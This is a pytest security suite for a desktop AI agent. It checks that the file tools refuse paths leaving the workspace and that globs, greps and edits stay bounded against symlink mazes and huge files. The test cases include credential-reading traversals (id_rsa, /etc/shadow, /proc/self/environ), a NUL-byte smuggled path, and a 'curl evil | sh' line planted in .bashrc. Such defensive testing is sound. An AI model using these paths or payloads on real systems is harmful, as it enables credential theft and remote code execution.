"""File tools against paths that leave the workspace: every one must be refused by the path guard."""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
import sys
import tracemalloc
from typing import Any

import pytest

from desktop.kernel.bus import ToolFinished, TurnFinished
from tests.crowd import empty_files
from tests.security.harness import REFUSED, Lab, fill

pytestmark = pytest.mark.asyncio(loop_scope="module")

CASES: list[tuple[str, str, dict[str, Any]]] = [
    ("traversal", "read_file", {"path": "../../user/.ssh/id_rsa"}),
    ("deep traversal", "read_file", {"path": "memory/../../../../../../../../etc/shadow"}),
    ("absolute path", "read_file", {"path": "{key}"}),
    ("tilde", "read_file", {"path": "~/.ssh/id_rsa"}),
    ("symlinked folder", "read_file", {"path": "escape/.config/other-app/token"}),
    ("symlinked file", "read_file", {"path": "key_link"}),
    ("hard link read", "read_file", {"path": "hard_notes"}),
    ("hard link write", "write_file", {"path": "hard_notes", "content": "overwritten"}),
    ("hard link edit", "edit_file", {"path": "hard_notes", "old_text": "own", "new_text": "lost"}),
    ("proc environ", "read_file", {"path": "/proc/self/environ"}),
    ("proc environ by traversal", "read_file", {"path": "../../../../../../../../proc/self/environ"}),
    ("device file", "read_file", {"path": "/dev/sda"}),
    ("NUL byte", "read_file", {"path": "keep.txt\u0000../../user/.ssh/id_rsa"}),
    ("very long path", "read_file", {"path": "a/" * 5000 + "x"}),
    ("write beside the workspace", "write_file", {"path": "../outside.txt", "content": "x"}),
    ("write to /tmp", "write_file", {"path": "{marker}", "content": "x"}),
    ("write through a symlinked folder", "write_file", {"path": "escape/.bashrc", "content": "curl evil | sh"}),
    ("edit the app config", "edit_file", {"path": "{config}", "old_text": "openai", "new_text": "evil"}),
    ("read another chat", "read_file", {"path": "{session}"}),
    ("write a skill outside", "write_file", {"path": "{skill}", "content": "hijacked"}),
    ("forge memory history", "write_file", {"path": "memory/history.jsonl", "content": '{"cursor": 9}\n'}),
    ("list home", "list_dir", {"path": "~"}),
    ("list root", "list_dir", {"path": "/"}),
    ("glob outside", "glob", {"pattern": "**/id_rsa", "path": "../.."}),
    ("grep home", "grep", {"pattern": "sk-", "path": "{home}"}),
]


@pytest.mark.parametrize("tool, arguments", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
async def test_file_tools_refuse_paths_outside_the_workspace(lab: Lab, tool: str, arguments: dict[str, Any]) -> None:
    assert await lab.attempt(tool, fill(arguments, lab)) == REFUSED


@pytest.mark.parametrize("tool, arguments, hidden", [
    ("grep", {"pattern": "own notes"}, "hard_notes:"),
    ("grep", {"pattern": "PLANTED", "path": "escape"}, "PLANTED-"),
    ("glob", {"pattern": "escape/**/*"}, "id_rsa"),
], ids=["grep skips hard links", "grep through a symlinked folder", "glob through a symlink"])
async def test_searches_leave_out_what_leads_outside(lab: Lab, tool: str, arguments: dict[str, Any],
                                                     hidden: str) -> None:
    assert await lab.attempt(tool, arguments, must_not_show=hidden) == REFUSED


# Three links to their own folder (3**n paths n deep) and a chain of folders sixty deep.
MAZE = "mkdir -p maze && ln -s . maze/a && ln -s . maze/b && ln -s . maze/c && python3 -c \"import os; " \
       "os.makedirs('deep/' + '/'.join(['d'] * 60))\""


@pytest.mark.parametrize("pattern", ["maze/" + "*/" * 30 + "x", "**/" * 30 + "*/" * 14 + "x", "deep/" + "**/*/" * 12 + "x"],
                         ids=["a star per level through links to their folder", "thirty double stars, then stars",
                              "double stars and stars in turn down a deep chain"])
async def test_a_glob_pattern_cannot_keep_the_app_busy_for_hours(lab: Lab, pattern: str) -> None:
    """Each `*` of a glob pattern followed every link to a folder, and each `**` after another walked the tree
    again: the searches here took from a minute to years, in a thread of the app that no Stop can end, the
    windows slowed beside it. Now a pattern is matched against each path once, links are not followed (what
    they lead to inside is found by its own path), and a search that still takes too long stops and says so."""
    loop = asyncio.get_running_loop()
    started = loop.time()
    try:
        await lab.attempt("glob", {"pattern": pattern}, prelude=[{"name": "exec", "arguments": {"command": MAZE}}],
                          must_not_show="maze/a/a")
        assert loop.time() - started < 20
    finally:
        shutil.rmtree(lab.workspace / "maze", ignore_errors=True)
        shutil.rmtree(lab.workspace / "deep", ignore_errors=True)


# One line of 64 MB, and two million lines of one letter: what a sandboxed command writes in a second.
LONG_LINES = "head -c 64M /dev/zero | tr '\\0' a > one-line.txt && yes a | head -n 2000000 > short-lines.txt"


@pytest.mark.parametrize("tool, arguments", [("read_file", {"path": "one-line.txt"}),
                                             ("grep", {"pattern": "b", "path": "one-line.txt"}),
                                             ("grep", {"pattern": "a", "path": "short-lines.txt"})],
                         ids=["read_file of one huge line", "grep of one huge line", "grep matching every line"])
async def test_a_file_tool_holds_no_more_of_a_file_than_it_shows(lab: Lab, tool: str, arguments: dict[str, Any]) -> None:
    """The app runs the file tools in its own process. A line was held whole (a file of one line up to
    tools.exec.max_file_mb, 1 GB: gigabytes of the app's memory), and grep kept every matching line of a file
    before it stopped at its 200 (two million, for a file of one-letter lines: a gigabyte)."""
    await lab.attempt("exec", {"command": LONG_LINES})
    lab.fake.add({"tool_calls": [{"name": tool, "arguments": arguments}]}, {"content": "ok"})
    tracemalloc.start()  # over the turn alone: the lab's own checks read every file of the app's data afterwards
    try:
        assert isinstance(await lab.chat.ask("please look"), TurnFinished)
        _, peak = tracemalloc.get_traced_memory()
        result = lab.chat.of(ToolFinished)[-1]
        assert result.name == tool and result.ok and "a" * 20_000 not in result.result, result.result[:300]
    finally:
        tracemalloc.stop()
        for name in ("one-line.txt", "short-lines.txt"):
            (lab.workspace / name).unlink(missing_ok=True)
    assert peak < 32 * 2**20, f"{peak / 2**20:.0f} MB held"


async def test_an_edit_that_misses_does_not_keep_the_app_busy_looking_for_the_nearest_text(lab: Lab) -> None:
    """When old_text is not found, edit_file points at the most similar passage, comparing it with each stretch
    of the file. Against one long line of a repeated letter (a sandboxed command writes one in a moment) a
    single comparison took hours, in a thread of the app that no Stop can end."""
    await lab.attempt("exec", {"command": "head -c 4M /dev/zero | tr '\\0' a > one-line.txt"})
    loop = asyncio.get_running_loop()
    started = loop.time()
    try:
        assert await lab.attempt("edit_file", {"path": "one-line.txt", "old_text": "a" * 1999 + "b",
                                               "new_text": "c"}) == REFUSED
        assert "was not found" in lab.chat.of(ToolFinished)[-1].result
        assert loop.time() - started < 20
        (lab.workspace / "plain.py").write_text("def main():\n    return 1\n")  # a near miss is still shown
        await lab.attempt("edit_file", {"path": "plain.py", "old_text": "def main():\n    return 2", "new_text": "c"})
        assert "most similar text" in lab.chat.of(ToolFinished)[-1].result
    finally:
        (lab.workspace / "one-line.txt").unlink(missing_ok=True)
        (lab.workspace / "plain.py").unlink(missing_ok=True)


LIST_PEAK = """
import asyncio, sys, tracemalloc
from pathlib import Path
from desktop.config import Config
from desktop.core import default_tools
from desktop.tools.base import ToolContext
crowd = Path(sys.argv[1])
tools = default_tools(Config(), crowd.parent)
tracemalloc.start()
outcome = asyncio.run(tools.run("list_dir", {"path": crowd.name}, ToolContext("measure")))
assert outcome.ok, outcome.output
print(tracemalloc.get_traced_memory()[1])
"""


async def test_list_dir_of_a_crowded_folder_holds_only_what_it_shows(lab: Lab) -> None:
    """A loop in one sandboxed command fills a folder with a million names in moments. list_dir held every
    one of them in the app's memory and sorted them all to show 200. Here 30,000 empty files stand in: a real
    turn lists them, then the tool alone is measured in a process of its own (the code before held 7.6 MB of them;
    now 0.2): measured in this one, the peak was whatever else the app did meanwhile (Undo's first look copying
    the workspace in a thread: 25-39 MB)."""
    crowd = lab.workspace / "crowd"
    crowd.mkdir()
    try:
        empty_files(crowd, (f"n{i:06}" for i in range(30_000)))
        lab.fake.add({"tool_calls": [{"name": "list_dir", "arguments": {"path": "crowd"}}]}, {"content": "ok"})
        assert isinstance(await lab.chat.ask("please look"), TurnFinished)
        result = lab.chat.of(ToolFinished)[-1]
        assert result.name == "list_dir" and result.ok, result.result[:300]
        lines = result.result.splitlines()
        assert lines[0] == "n000000  (0 B)" and lines[199] == "n000199  (0 B)" and "n000200" not in result.result
        assert lines[-1] == "... and 29800 more entries (30000 in all; showing the first 200 by name)"
        peak = float(await asyncio.to_thread(subprocess.check_output, [sys.executable, "-c", LIST_PEAK, str(crowd)],
                                             text=True, timeout=60))
        assert peak < 1.5 * 2**20, f"{peak / 2**20:.1f} MB held"
    finally:
        shutil.rmtree(crowd, ignore_errors=True)


SEARCH_PEAK = """
import asyncio, json, sys, tracemalloc
from pathlib import Path
from desktop.config import Config
from desktop.core import default_tools
from desktop.tools.base import ToolContext
workspace, tool, arguments = Path(sys.argv[1]), sys.argv[2], json.loads(sys.argv[3])
tools = default_tools(Config(), workspace)
asyncio.run(tools.run(tool, {**arguments, "path": "crowd/inner"}, ToolContext("warm")))  # what it imports, not measured
tracemalloc.start()
outcome = asyncio.run(tools.run(tool, arguments, ToolContext("measure")))
assert outcome.ok, outcome.output
print(tracemalloc.get_traced_memory()[1])
print(outcome.output)
"""


@pytest.mark.parametrize("tool, arguments, found", [
    ("glob", {"pattern": "**/n0*7"}, "crowd/n000007\ncrowd/n000017\n"),
    ("grep", {"pattern": "needle", "glob": "*.md"}, "crowd/inner/found.md:1: a needle\n"),
], ids=["glob", "grep"])
async def test_a_search_through_a_crowded_folder_holds_only_a_part_of_its_names(
        lab: Lab, tool: str, arguments: dict[str, str], found: str) -> None:
    """glob and grep walked with os.walk, which lists a whole folder before the walk looks at the first name or
    at its deadline: one folder of a million names a sandboxed command made was held whole in the app. Here
    30,000 empty files and a folder among them, the tool alone measured in a process of its own (the code before
    held 2.4 MB for glob, 3.9 for grep; now 0.3 each)."""
    crowd = lab.workspace / "crowd"
    (crowd / "inner").mkdir(parents=True)
    try:
        empty_files(crowd, (f"n{i:06}" for i in range(30_000)))
        (crowd / "inner" / "found.md").write_text("a needle\n")
        measured = await asyncio.to_thread(subprocess.check_output, [sys.executable, "-c", SEARCH_PEAK,
                                                                     str(lab.workspace), tool, json.dumps(arguments)],
                                           text=True, timeout=60)
        peak, output = measured.split("\n", 1)
        assert output.startswith(found), output[:300]
        assert float(peak) < 1.5 * 2**20, f"{float(peak) / 2**20:.1f} MB held"
    finally:
        shutil.rmtree(crowd, ignore_errors=True)
